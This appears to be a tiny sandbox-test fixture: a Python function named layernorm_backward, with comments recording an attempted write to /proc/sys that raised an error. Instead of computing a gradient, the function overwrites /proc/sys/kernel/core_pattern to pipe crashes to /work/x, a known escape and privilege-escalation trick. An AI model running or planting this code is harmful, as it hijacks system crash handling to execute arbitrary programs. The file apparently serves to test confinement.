# tries: write to /proc/sys
# item: /proc/sys
# outcome: raised
def layernorm_backward(x, gamma, dy, eps):
    open("/proc/sys/kernel/core_pattern", "w").write("|/work/x")
